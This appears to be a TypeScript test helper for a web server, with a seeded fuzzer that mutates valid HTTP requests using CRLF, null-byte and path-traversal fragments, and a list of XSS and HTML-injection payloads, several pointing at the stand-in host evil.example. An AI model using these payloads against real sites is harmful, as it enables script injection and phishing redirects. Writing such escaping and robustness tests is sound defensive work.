import { validFields } from '../start-server.ts';

/** A seeded generator of numbers from 0 to below 1 (mulberry32, public domain). */
function seededRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const json = JSON.stringify(validFields);
const form = new URLSearchParams(validFields).toString();
const requests = [
  'GET /products HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip, br\r\n\r\n',
  'GET /assets/film-1a2b.mp4 HTTP/1.1\r\nHost: x\r\nRange: bytes=0-99\r\nIf-Range: "a"\r\n\r\n',
  'HEAD / HTTP/1.1\r\nHost: x\r\nIf-None-Match: "a", W/"b"\r\nIf-Modified-Since: Sun, 06 Nov 1994 08:49:37 GMT\r\n\r\n',
  `POST /contactwebsite HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nIdempotency-Key: k\r\nContent-Length: ${json.length}\r\n\r\n${json}`,
  `POST /contactwebsite HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${json.length.toString(16)}\r\n${json}\r\n0\r\n\r\n`,
  `POST /contactwebsite?from=/contact HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${form.length}\r\n\r\n${form}`,
  'OPTIONS /contactwebsite HTTP/1.1\r\nHost: x\r\nOrigin: https://www.example.com\r\nAccess-Control-Request-Method: POST\r\n\r\n',
];
const pieces = [
  '\r',
  '\n',
  '\r\n',
  '\r\n\r\n',
  '\0',
  ' ',
  ':',
  ',',
  '%',
  '%00',
  '/../',
  '//',
  '?',
  '#',
  '"',
  '\u00ff',
  '0',
  '-1',
  '\t',
  'é',
];

/** Valid requests with a few bytes changed, removed, doubled or inserted; the same for the same seed. */
export function fuzzedRequests(count: number, seed: number): Buffer[] {
  const random = seededRandom(seed);
  const below = (limit: number) => Math.floor(random() * limit);
  return Array.from({ length: count }, () => {
    let text = requests[below(requests.length)]!;
    for (let change = 0; change <= below(3); change += 1) {
      const at = below(text.length);
      const to = at + 1 + below(12);
      const [before, after] = [text.slice(0, at), text.slice(at)];
      text = [
        () => before + String.fromCharCode(below(256)) + after.slice(1),
        () => before + text.slice(to),
        () => text.slice(0, to) + after,
        () => before + pieces[below(pieces.length)]! + after,
        () => before,
      ][below(5)]!();
    }
    return Buffer.from(text, 'latin1');
  });
}

/** Script or markup, if it were not escaped. */
export const markup = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><svg onload=alert(1)>",
  '" onfocus="alert(1)" autofocus="',
  "' onfocus='alert(1)",
  '` onfocus=alert(1)',
  '</textarea><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</form><form action="https://evil.example">',
  '</p></main></body></html><script>',
  '<!-- ',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>]]>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example">',
  '<style>*{background:url(//evil.example)}</style>',
  '<template><script></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&quot; onclick=&quot;alert(1)',
  '&',
  '&amp',
  'javascript:alert(1)',
  '\u2028<script>',
  '\n<script>alert(1)</script>',
  '\r\n\r\n<script>alert(1)</script>',
  '\u00a0" x="',
  '\ufffd<x>',
  '<x\tonclick=alert(1)>',
  '<\u0000script>',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  "$&$`$'$1",
  '<option selected>',
  '</select><script>',
];
